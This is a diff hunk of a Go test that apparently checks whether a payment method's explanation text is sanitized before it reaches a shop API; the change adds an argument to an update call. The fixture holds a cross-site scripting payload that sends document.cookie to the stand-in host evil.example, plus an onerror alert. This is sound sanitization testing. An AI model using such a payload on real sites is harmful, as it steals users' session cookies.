@@ -17,7 +17,7 @@ func TestPaymentMethodExplanationReachesShopsSanitized(t *testing.T) {
 		t.Fatal(err)
 	}
 	pm.Explanation = `<p>翌月後払い</p><script>document.location="https://evil.example/?c="+document.cookie</script><img src="x" onerror="alert(1)">`
-	if _, err := h.D.Methods.Update(ctx, pm.ID, *pm); err != nil {
+	if _, err := h.D.Methods.Update(ctx, pm.ID, *pm, "test"); err != nil {
 		t.Fatal(err)
 	}
 	r := h.Shop(t, "GET", "/api/v1/payment-methods", nil)
